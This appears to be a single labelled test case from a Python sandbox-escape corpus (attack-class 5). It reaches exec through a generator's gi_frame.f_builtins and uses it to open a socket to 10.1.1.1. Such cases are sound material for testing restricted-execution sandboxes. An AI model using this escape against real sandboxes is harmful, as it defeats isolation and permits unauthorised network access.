# attack-class: 5
# title: generator gi_frame.f_builtins
# why: frame objects reachable from a generator expression

gen = (x for x in [1])
gen.gi_frame.f_builtins["exec"]("import socket; socket.create_connection(('10.1.1.1', 80))")
